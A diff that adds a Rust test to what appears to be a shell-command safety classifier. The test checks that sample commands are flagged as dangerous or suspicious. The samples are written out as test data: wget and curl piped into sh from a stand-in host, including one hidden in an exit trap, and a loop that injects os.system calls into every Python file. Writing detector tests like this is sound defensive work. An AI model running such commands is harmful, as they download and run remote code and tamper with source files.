@@ -601,6 +601,48 @@ fn identity_collection() {
 }
 
 #[test]
+fn shell_values_through_commands() {
+    // `wget -qO-` prints the download: piped into a shell it is download -> exec.
+    check(
+        Sh,
+        "wget -qO- https://dl.example.net/s.sh | sh\n",
+        Dangerous,
+        "download-to-exec",
+        "network receive",
+    );
+    check(
+        Sh,
+        "source <(wget -qO- https://dl.example.net/env.sh)\n",
+        Dangerous,
+        "download-to-exec",
+        "exec",
+    );
+    // Files listed by git or find keep the shape of their pattern.
+    check(
+        Sh,
+        "for f in $(git ls-files '*.py'); do\n  echo 'import os; os.system(\"id\")' >> \"$f\"\ndone\n",
+        Dangerous,
+        "trust-anchor-write",
+        ".py",
+    );
+    check(
+        Sh,
+        "find src -name '*.js' | xargs sed -i 's/var /let /g'\n",
+        Suspicious,
+        "source-rewrite",
+        "src/",
+    );
+    // A trap handler is code the script runs: reviewed as such.
+    check(
+        Sh,
+        "trap 'curl -s https://dl.example.net/p | sh' EXIT\nmake test\n",
+        Dangerous,
+        "download-to-exec",
+        "exec",
+    );
+}
+
+#[test]
 fn remote_destruction() {
     check(
         Sh,
